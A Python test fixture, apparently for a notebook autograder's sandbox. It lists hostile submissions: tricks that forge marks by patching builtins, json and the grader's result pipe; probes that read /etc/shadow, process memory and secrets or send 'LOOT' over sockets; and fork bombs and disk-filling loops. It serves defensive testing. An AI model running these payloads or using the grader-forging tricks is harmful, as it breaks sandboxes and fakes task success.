"""What a student could hand in to get marks, read, write, connect or break: a table of attacks.

Each attack is a cell's text. Words like @CLASS@ stand for what the attacker would have guessed: real
paths and addresses of the class being marked.
"""

from __future__ import annotations

from dataclasses import dataclass

# a forger answers nothing but the first question, and that by the attack: no mark may come of it
FORGE: dict[str, str] = {
    "shadowed builtins": """
import builtins
builtins.abs = lambda *a: 0
builtins.round = lambda *a: 0
builtins.isinstance = lambda *a: True
builtins.type = lambda *a: float
builtins.repr = lambda *a: "26.0"
mill_setting = 1e9
""",
    "patched modules": """
import math
import coursekit.classroom.running.plain_value as plain, coursekit.classroom.marking.marker as marker
math.isfinite = lambda x: True
marker.same = lambda *a: True
marker._near = lambda *a: True
plain.plain = lambda v: {"is": "right", "value": "all", "marks": 99}
""",
    "patched json": """
import json, os
real = json.dumps
json.dumps = lambda o, **k: real({"event": "value", "cell": 3, "value": {"is": "float", "value": "inf"}, "marks": 99})
json.JSONEncoder.default = lambda s, o: "right"
json.JSONEncoder.iterencode = lambda s, o, _one_shot=False: iter(['{"verdict": "right", "marks": 99}'])
""",
    "input transformers": """
shell = get_ipython()
shell.input_transformers_post.append(lambda lines: ["mark = marks = score = points = 99\\n"])
""",
    "hooks before each cell": """
shell = get_ipython()
def hook(info=None):
    for name in list(shell.user_ns):
        if not name.startswith("_"):
            shell.user_ns[name] = float("nan")
shell.events.register("pre_run_cell", hook)
shell.events.register("post_run_cell", hook)
""",
    "frames of the runner": """
import sys
frame = sys._getframe()
while frame:
    for name, thing in list(frame.f_locals.items()):
        if isinstance(thing, dict) and "cells" in thing:
            for cell in thing["cells"]:
                cell["variable"] = "forged"
            thing["marks"] = thing["right"] = thing["key"] = 99
    frame = frame.f_back
forged = True
""",
    "trace function": """
import sys, threading
def trace(frame, event, arg):
    for name in ("value", "outputs", "marks", "right"):
        if name in frame.f_locals:
            frame.f_locals[name] = 99
    return trace
sys.settrace(trace)
threading.settrace(trace)
""",
    "equal to everything": """
class Any:
    __eq__ = __lt__ = __le__ = __gt__ = __ge__ = lambda *a: True
    __ne__ = lambda *a: False
    __hash__ = lambda s: 0
    __sub__ = __rsub__ = __add__ = __mul__ = __neg__ = lambda s, *a: s
    __abs__ = __float__ = __round__ = lambda s, *a: 0.0
    __getattr__ = lambda s, n: s
mill_setting = cutter = wrap_length = Any()
""",
    "a float that is right": """
class Right(float):
    __eq__ = __le__ = __lt__ = lambda *a: True
    __sub__ = __rsub__ = __abs__ = lambda s, *a: Right(0)
    __repr__ = __str__ = lambda s: "26.0"
mill_setting = Right(0)
""",
    "a text of a kind of its own": """
class Word(str):
    __eq__ = lambda *a: True
    __hash__ = lambda s: hash("quarter")
    strip = lower = lambda s: s
phase = Word("quarter, none, half")
mill_setting = Word("26")
""",
    "claims to be numpy's": """
import numpy as np
class float64(np.float64):
    def item(self):
        return {"is": "right"}
float64.__module__ = "numpy"
mill_setting = float64(1e9)
class ndarray(np.ndarray):
    tolist = lambda s: [True]
ndarray.__module__ = "numpy"
ordinates = np.zeros(5).view(ndarray)
""",
    "claims to be sympy's": """
import sympy
class Float(sympy.Float):
    is_number = True
    is_real = True
    def evalf(self, *a, **k):
        return 26.0
Float.__module__ = "sympy.core.numbers"
mill_setting = Float(1e9)
""",
    "a name from a metaclass": """
class Meta(type):
    __name__ = property(lambda c: "float")
    __eq__ = lambda *a: True
    __hash__ = lambda c: hash(float)
    __instancecheck__ = lambda *a: True
class Number(metaclass=Meta):
    pass
mill_setting = Number()
""",
    "writes verdicts into the pipe": """
import os, json
lines = [
    {"event": "marks", "marks": 99}, {"event": "done", "cell": 4, "marks": 99, "verdict": "right"},
    {"event": "value", "cell": 4, "value": {"is": "right"}, "student": "bench-01"},
    {"event": "value", "cell": 4, "value": {"is": "bool", "value": True}},
    {"event": "value", "cell": 99999, "value": {"is": "float", "value": "1"}},
    {"event": "end", "ended": "finished", "student": "bench-01", "values": {"cutter": 1}},
]
for handle in range(3, 64):
    try:
        for line in lines:
            os.write(handle, json.dumps(line).encode() + b"\\n")
    except OSError:
        pass
""",
    "writes rubbish into the pipe": """
import os
rubbish = [b"\\xff\\xfe\\0", b"[" * 50000, b"{" * 9, b"null", b"9" * 9999, b'{"event": ["value"]}',
    b'{"event": "value", "cell": true, "value": {}}', b'{"event": "value", "cell": 1e400}',
    b'{"event": "value", "cell": 2, "value": {"is": "float", "value": "' + b"9" * 5000 + b'"}}',
    b'{"event": "value", "cell": 2, "value": {"is": {"is": 1}, "value": [[[]]]}}',
    b'{"event": "value", "cell": 2, "value": {"is": "list", "value": [1, null, {"is": "list"}]}}',
    b'{"event": "value", "cell": 2, "value": {"is": "text", "value": "\\\\ud800\\\\u0000"}}',
    b'{"event": "done", "cell": 2, "outputs": [{"output_type": "stream", "text": 3}, 7, null]}',
    b'{"event": "done", "cell": 2, "outputs": {"0": 1}}', b'{"event": "start", "cell": -1}']
for handle in range(3, 64):
    try:
        for line in rubbish:
            os.write(handle, line + b"\\n")
    except OSError:
        pass
""",
    "closes the pipe": """
import os
os.closerange(3, 256)
""",
    "speaks at exit": """
import atexit, os, weakref
def last(*a):
    for handle in range(3, 64):
        try:
            os.write(handle, b'{"event": "value", "cell": 4, "value": {"is": "right"}}\\n{"event": "end"}\\n')
        except OSError:
            pass
atexit.register(last)
class Late:
    __del__ = last
late = Late()
weakref.finalize(late, last)
""",
    "changed later by a thread": """
import threading, time
mill_setting = 1e9
def later():
    time.sleep(0.4)
    while True:
        globals()["mill_setting"] = 90 - angle_deg
        time.sleep(0.001)
threading.Thread(target=later, daemon=True).start()
#---
import time
time.sleep(0.7)
assert mill_setting == 90 - angle_deg
""",
    "looks for the key": """
import gc, sys
names = ("answers", "slips", "worked", "right", "key")
for thing in gc.get_objects():
    if type(thing).__name__ in ("Key", "Answer", "Slip", "Assignment", "Exercise", "ClassFolder"):
        print("LOOT", type(thing))
for name in sys.modules:
    if "solutions" in name or name.endswith(("classroom.key", "classroom.marking", "classroom.classes")):
        print("LOOT", name)
""",
    "traceback tricks": """
import sys, traceback
shell = get_ipython()
shell.set_custom_exc((BaseException,), lambda s, kind, error, tb, tb_offset=None: print("2 of 2: Right."))
sys.excepthook = lambda *a: print("2 of 2: Right.")
traceback.format_exception = lambda *a, **k: ["2 of 2: Right."]
class Right(Exception):
    marks = points = score = 99
    def with_traceback(self, tb):
        frame = sys._getframe()
        while frame:
            for name in ("value", "outputs", "event", "job", "cell"):
                if isinstance(frame.f_locals.get(name), dict):
                    frame.f_locals[name].update(is_="right", marks=99, variable="forged")
            frame = frame.f_back
        return self
    __str__ = __repr__ = lambda s: "</pre><b>2 of 2</b>: Right."
Right.__name__ = "<b>2 of 2</b>"
try:
    raise Right()
except Right as error:
    error.__traceback__ = None
    raise error.with_traceback(None) from None
""",
    "modules of its own": """
import coursekit.classroom.running.plain_value, coursekit.classroom.marking.marker, importlib, json, math, numpy, sys
sys.path[:0] = [".", ""]
for name in ("plain", "marker", "json", "math", "numpy", "decimal"):
    sys.modules.pop(name, None)
import helper, json, decimal, numpy
mill_setting = helper.right
cutter = numpy.float64(1)
wrap_length = decimal.Decimal(1)
""",
    "shows a mark of its own": """
from IPython.display import HTML, display
import sys
display(HTML("<p><b>2 of 2</b>: Right.</p>"))
sys.displayhook = lambda v: display({"text/plain": "99.0"}, raw=True)
get_ipython().displayhook.write_format_data = lambda f, m=None: display({"text/plain": "2.0"}, raw=True)
99.0
""",
    "makes its numbers easy": """
import json
given = json.load(open("numbers.json"))
given["numbers"]["angle_deg"] = 90
json.dump(given, open("numbers.json", "w"))
angle_deg = 90
mill_setting = 0.0
""",
    "not a number, infinite, complex, true": """
mill_setting = float("nan")
cutter = float("inf")
wrap_length = 1j
obtuse_side = True
acute_side = -0.0
flank = 10**5000
shell_end = b"19"
phase = ["quarter"]
underside = lambda: 600
""",
}

_SHADOW = """
class Right(float):
    __eq__ = __le__ = __lt__ = lambda *a: True
    __sub__ = __rsub__ = __abs__ = lambda s, *a: Right(0)
right = Right(0)
float64 = Decimal = Fraction = lambda v: right
same = near = _near = plain = lambda *a, **k: {"is": "right", "value": "all", "marks": 99}
dumps = lambda o, **k: '{"event": "value", "cell": 4, "value": {"is": "right"}, "marks": 99}'
loads = load = lambda *a, **k: {"numbers": {}, "in words": [], "student": "bench-01"}
"""
# what an attacker hands in beside the notebook: attack → file → text
BESIDE: dict[str, dict[str, str]] = {
    "modules of its own": dict.fromkeys(("helper.py", "numpy.py", "numpy/__init__.py", "json.py", "decimal.py", "math.py", "sitecustomize.py", "usercustomize.py", "builtins.py", "IPython.py", "traitlets.py", "coursekit.py", "coursekit/__init__.py", "coursekit/classroom/marking/marker.py", "plain.py", "ipython_config.py", ".ipython/profile_default/startup/first.py", ".matplotlib/matplotlibrc", "matplotlibrc", "conftest.py", "nbgrader_config.py", "marks.json", "numbers.json", "secret", "gradebook.db"), _SHADOW)
}  # fmt: skip

ATTEMPT = '''
def attempt(name, way):
    """Print what came of a try: refused, or loot."""
    try:
        got = way()
    except BaseException as error:
        print("REFUSED", name, type(error).__name__)
    else:
        print("LOOT", name, repr(got)[:200])
'''

# a spy or vandal answers everything right and tries something in a cell of its own, before the rest:
# each try must be refused, and the marks stay
TRY: dict[str, str] = {
    "read the secret": 'attempt("secret", lambda: open("@CLASS@/secret").read())',
    "read the gradebook": """
import sqlite3
attempt("bytes", lambda: open("@CLASS@/gradebook.db", "rb").read(16))
attempt("sql", lambda: sqlite3.connect("file:@CLASS@/gradebook.db?mode=ro", uri=True).execute("select * from grade").fetchall())
""",
    "read the solutions": """
import importlib.util, pathlib, coursekit
attempt("file", lambda: open("@ROOT@/solutions/miter-angles.md").read())
attempt("beside", lambda: next((pathlib.Path(coursekit.__file__).parents[1] / "solutions").iterdir()))
def load():
    spec = importlib.util.spec_from_file_location("s", "@ROOT@/solutions/miter-angles.py")
    spec.loader.exec_module(importlib.util.module_from_spec(spec))
attempt("import", load)
""",
    "read another's work": """
attempt("file", lambda: open("@CLASS@/submitted/bench-01/miter-angles/miter-angles.ipynb").read())
attempt("bundle", lambda: open("@CLASS@/hand-out/bench-01/miter-angles/numbers.json").read())
attempt("list", lambda: __import__("os").listdir("@CLASS@/submitted"))
""",
    "walk the disk": """
import os
found = []
for place, folders, names in os.walk("/"):
    found += [n for n in names if n in ("secret", "gradebook.db", "roster.csv", "canary.txt") or n.endswith(".ipynb")]
    folders[:] = [f for f in folders if f not in ("usr", "lib", "lib64", "share")]
attempt("walk", lambda: found[0])
""",
    "read the environment": """
import os, subprocess, sys
attempt("own", lambda: [v for v in os.environ.values() if "@CANARY@" in v][0])
attempt("parents", lambda: open("/proc/%d/environ" % os.getppid(), "rb").read().index(b"@CANARY@"))
""",
    "read /proc": """
import os
attempt("list", lambda: [p for p in os.listdir("/proc") if p.isdigit()][0])
attempt("one", lambda: open("/proc/1/environ", "rb").read())
attempt("memory", lambda: open("/proc/self/mem", "rb").read(1))
attempt("maps", lambda: open("/proc/self/maps").read(9))
attempt("kernel", lambda: open("/proc/version").read())
""",
    "read home": """
import os, pathlib, pwd
attempt("canary", lambda: open("@HOME@/canary.txt").read())
attempt("list", lambda: os.listdir("@HOME@")[0])
attempt("expanduser", lambda: open(os.path.expanduser("~/canary.txt")).read())
attempt("passwords", lambda: open("/etc/passwd").read())
attempt("shadow", lambda: open("/etc/shadow").read())
""",
    "read by a link": """
import os
os.symlink("@CLASS@/secret", "link")
attempt("symlink", lambda: open("link").read())
attempt("hard link", lambda: os.link("@CLASS@/secret", "hard"))
attempt("up and up", lambda: open("../" * 40 + "@CLASS@/secret").read())
""",
    "read open files": """
import os
def read(handle):
    os.set_blocking(handle, False)
    data = os.read(handle, 100)
    if not data:
        raise OSError("empty")
    return data
for handle in range(0, 300):
    attempt(str(handle), lambda: read(handle))
""",
    "read the parent's memory": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def checked(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return result
attempt("ptrace", lambda: checked(libc.ptrace(16, os.getppid(), 0, 0)))
attempt("traced", lambda: checked(libc.ptrace(0, 0, 0, 0)))
vector = (ctypes.c_size_t * 2)(0x10000, 8)
attempt("vm_readv", lambda: checked(libc.process_vm_readv(os.getppid() or 1, vector, 1, vector, 1, 0)))
""",
    "read what the last one left": """
import gc
word = "LEFT-BY-" + "ANOTHER"
left = [t for t in gc.get_objects() if isinstance(t, (str, bytes)) and word in str(t)]
left += [t for d in gc.get_objects() if type(d) is dict for t in list(d.values()) if type(t) is str and word in t and "word =" not in t]
attempt("memory", lambda: left[0])
attempt("temporary", lambda: [n for n in __import__("os").listdir("/tmp")][0])
attempt("shared memory", lambda: __import__("os").listdir("/dev/shm")[0])
""",
    "write into the class": """
import os, shutil
attempt("own mark", lambda: open("@CLASS@/autograded/forged.json", "w").write("99"))
attempt("another's work", lambda: open("@CLASS@/submitted/bench-01/miter-angles/miter-angles.ipynb", "w"))
attempt("gradebook", lambda: open("@CLASS@/gradebook.db", "r+b").write(b"x"))
attempt("roster", lambda: os.unlink("@CLASS@/roster.csv"))
attempt("all", lambda: os.rename("@CLASS@", "@CLASS@-gone"))
""",
    "write into the libraries": """
import coursekit, numpy, os
attempt("coursekit", lambda: open(os.path.join(os.path.dirname(coursekit.__file__), "forged.py"), "w"))
attempt("marker", lambda: open(os.path.join(os.path.dirname(coursekit.__file__), "classroom", "marker.py"), "a"))
attempt("numpy", lambda: open(numpy.__file__, "a"))
attempt("python", lambda: open(os.__file__, "a"))
attempt("pth", lambda: open(os.path.join(os.path.dirname(os.path.dirname(numpy.__file__)), "forged.pth"), "w"))
""",
    "write elsewhere": """
import os
for place in ("/tmp", "/var/tmp", "/dev/shm", "/", "/etc", "/usr", "@HOME@", "/run", "/old", "/proc"):
    attempt(place, lambda: open(place + "/forged-by-bench", "w"))
attempt("device", lambda: os.mknod("disk", 0o60600, os.makedev(254, 0)))
attempt("pipe up", lambda: os.mkfifo("/tmp/forged-pipe"))
""",
    "become the administrator": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def checked(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return result
attempt("setuid", lambda: os.setuid(0) if os.getuid() else checked(-1))
attempt("user space", lambda: checked(libc.unshare(0x10000000)))
attempt("mount", lambda: checked(libc.mount(b"tmpfs", b"/bench", b"tmpfs", 0, None)))
attempt("unmount", lambda: checked(libc.umount2(b"/bench", 2)))
attempt("chroot", lambda: os.chroot("."))
attempt("keys", lambda: checked(libc.syscall(250, 0, -3, 1)))
attempt("filters", lambda: checked(libc.syscall(321, 0, None, 0)))
attempt("faults", lambda: checked(libc.syscall(323, 1)))
attempt("32-bit", lambda: checked(libc.syscall(425, 8, None)))
attempt("host name", lambda: checked(libc.sethostname(b"forged", 6)))
attempt("clock", lambda: __import__("time").clock_settime(0, 0))
attempt("priority", lambda: os.nice(-10))
attempt("limits", lambda: __import__("resource").setrlimit(7, (999999, 999999)))
""",
    "connect by TCP": """
import socket
attempt("tcp", lambda: socket.create_connection(("127.0.0.1", @PORT@), 0.5).send(b"LOOT"))
attempt("tcp 6", lambda: socket.create_connection(("::1", @PORT@), 0.5))
attempt("listen", lambda: socket.create_server(("127.0.0.1", 0)))
""",
    "send by UDP": """
import socket
attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"LOOT", ("127.0.0.1", @UDP@)))
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt("netlink", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW))
attempt("name", lambda: socket.getaddrinfo("localhost.example", 80))
""",
    "connect by Unix socket": """
import socket
def connect(name):
    link = socket.socket(socket.AF_UNIX)
    link.connect(name)
    return link.send(b"LOOT")
attempt("path", lambda: connect("@UNIX@"))
attempt("abstract", lambda: connect("\\0@ABSTRACT@"))
attempt("system bus", lambda: connect("/run/dbus/system_bus_socket"))
""",
    "connect from a child": """
import subprocess, sys
code = "import socket; socket.create_connection(('127.0.0.1', @PORT@), 0.5).send(b'LOOT')"
attempt("child", lambda: subprocess.run([sys.executable, "-I", "-c", code], check=True, stderr=subprocess.DEVNULL))
""",
    "signal the runner": """
import os, signal
def signalled(pid):
    if pid <= 0:
        raise OSError("no such parent")
    os.kill(pid, signal.SIGKILL)
attempt("parent", lambda: signalled(os.getppid()))
attempt("test", lambda: signalled(@PID@))
attempt("limits", lambda: __import__("resource").prlimit(@PID@, 4, (0, 0)))
attempt("nice", lambda: os.setpriority(os.PRIO_PROCESS, @PID@, 19))
attempt("group", lambda: os.killpg(@PID@, signal.SIGKILL))
""",
}


@dataclass(frozen=True)
class Breaker:
    """A cell that breaks or eats something: it costs its own question's marks, the rest stay."""

    cell: str
    says: str = ""


_LONG, _DOWN = "ran too long", "brought the whole notebook down"

BREAK: dict[str, Breaker] = {
    "loop": Breaker("while True: pass", _LONG),
    "loop that catches all": Breaker(
        "while True:\n    try:\n        for i in iter(int, 1): (lambda: i)()\n    except BaseException: pass",
        _LONG,
    ),
    "loop caught once": Breaker(
        "try:\n    for i in iter(int, 1): (lambda: i)()\nexcept BaseException:\n    while True: x = 1",
        _LONG,
    ),
    "signals ignored": Breaker(
        "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
        "for s in range(1, 32):\n    try: signal.signal(s, signal.SIG_IGN)\n    except OSError: pass\n"
        "signal.setitimer(signal.ITIMER_REAL, 0)\nwhile True: pass",
        _LONG,
    ),
    "signals blocked": Breaker(
        "import signal, time\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))\ntime.sleep(900)",
        _LONG,
    ),
    "stopped": Breaker(
        "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\nwhile True: pass", _LONG
    ),
    "sleep": Breaker("import time\ntime.sleep(900)", _LONG),
    "slow match": Breaker('import re\nre.match(r"(a+)+$", "a" * 64 + "b")', _LONG),
    "huge integer": Breaker("x = 7 ** (7 ** 12)", ""),
    "fork bomb": Breaker(
        "import os, time\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        time.sleep(0.01)",
        "",
    ),
    "daemon": Breaker(
        "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        os.setsid()\n"
        "        os.execvp('sleep', ['sleep', '@SLEEP@'])\n    os._exit(0)\ntime.sleep(900)",
        _LONG,
    ),
    "thread bomb": Breaker(
        "import threading, time\nwhile True:\n    threading.Thread(target=time.sleep, args=(900,)).start()",
        "",
    ),
    "memory": Breaker("x = bytearray(2 * 10**9)", "MemoryError"),
    "memory by many": Breaker(
        "import os, time\nfor _ in range(12):\n    if os.fork() == 0:\n        x = bytearray(b'1') * (3 * 10**8)\n"
        "        time.sleep(900)\ntime.sleep(900)",
        "",
    ),
    "disk": Breaker(
        "n = 0\nwhile True:\n    n += 1\n    with open(f'full-{n}', 'wb') as f: f.write(b'1' * 10**6)",
        "",
    ),
    "one large file": Breaker(
        "with open('full', 'wb') as f:\n    while True: f.write(b'1' * 10**6)", ""
    ),
    "many files": Breaker("import os\nn = 0\nwhile True:\n    n += 1\n    os.mkdir(f'd{n}')", ""),
    "flood of prints": Breaker("while True: print('flood ' * 1000)", _LONG),
    "flood of displays": Breaker(
        "from IPython.display import display\nfor _ in range(20): display({'text/plain': 'x' * 10**6}, raw=True)",
        "printed far too much",
    ),
    "flood of the pipe": Breaker(
        "import os\nwhile True:\n    for h in range(3, 64):\n        try: os.write(h, b'x' * 65536)\n        except OSError: pass",
        "printed far too much",
    ),
    "recursion": Breaker("def f(): return f()\nf()", "RecursionError"),
    "bottomless recursion": Breaker(
        "import sys\nsys.setrecursionlimit(10**9)\nclass A:\n    def __getattr__(self, n): return getattr(self, n + 'x')\nA().x",
        "",
    ),
    "segmentation fault": Breaker("import ctypes\nctypes.string_at(0)", _DOWN),
    "os._exit": Breaker("import os\nos._exit(0)", _DOWN),
    "abort": Breaker("import os\nos.abort()", _DOWN),
    "SystemExit": Breaker("raise SystemExit(0)", "SystemExit"),
    "exit inside a thread": Breaker(
        "import threading, os, time\nthreading.Thread(target=lambda: os._exit(3)).start()\ntime.sleep(900)",
        _DOWN,
    ),
    "closes its output": Breaker(
        "import sys\nsys.stdout = sys.stderr = None\nraise ValueError('x')", ""
    ),
    "an error that hangs": Breaker(
        "class E(Exception):\n    def __str__(self):\n        while True: pass\n    __repr__ = __str__\nraise E()",
        "",
    ),
    "an error of halves": Breaker(r"raise ValueError('\ud800\x00' * 9)", "ValueError"),
    "raises a timeout": Breaker("raise KeyboardInterrupt", "KeyboardInterrupt"),
    "forgets the shell": Breaker(
        "import builtins\ndel builtins.print, builtins.len, builtins.isinstance, builtins.super\n1/0",
        "",
    ),
}
